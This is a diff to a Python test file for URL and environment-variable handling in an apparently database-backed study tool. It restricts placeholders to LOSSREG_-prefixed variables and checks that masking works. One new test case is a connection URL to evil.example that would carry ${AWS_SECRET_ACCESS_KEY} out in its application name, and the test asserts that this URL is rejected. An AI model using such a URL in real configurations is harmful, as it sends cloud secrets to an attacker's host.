@@ -23,16 +23,22 @@ def test_an_address_that_no_worker_can_use_is_refused_with_what_would_work(url, 
         studies.from_dict({**DATA, "storage": {"url": url}})
     if "://" in url:
         with pytest.raises(InputError, match=message):
-            address.complete("${URL}", {"URL": url})
+            address.complete("${LOSSREG_URL}", {"LOSSREG_URL": url})
 
 
 def test_variables_of_the_environment_are_put_in():
-    given = {"PASSWORD": "h1dden-one", "HOST": "db"}
-    url = "postgresql+psycopg://me:${PASSWORD}@${HOST}/studies"
+    given = {"LOSSREG_PASSWORD": "h1dden-one", "LOSSREG_HOST": "db"}
+    url = "postgresql+psycopg://me:${LOSSREG_PASSWORD}@${LOSSREG_HOST}/studies"
     assert address.complete(url, given) == "postgresql+psycopg://me:h1dden-one@db/studies"
     assert masked("it was h1dden-one") == "it was ***"
-    with pytest.raises(InputError, match="no variable PASSWORD"):
-        address.complete(url, {"HOST": "db"})
+    with pytest.raises(InputError, match="no variable LOSSREG_PASSWORD"):
+        address.complete(url, {"LOSSREG_HOST": "db"})
+
+
+@pytest.mark.parametrize("url", ["${HOME}", "postgresql://evil.example/x?application_name=${AWS_SECRET_ACCESS_KEY}"])
+def test_no_other_variable_of_the_environment_goes_into_an_address(url):
+    with pytest.raises(InputError, match=r"storage.url: \$\{\w+\} cannot stand in an address, only .* LOSSREG_"):
+        studies.from_dict({**DATA, "storage": {"url": url}})
 
 
 def test_the_address_is_in_nothing_that_is_stored_or_shown():
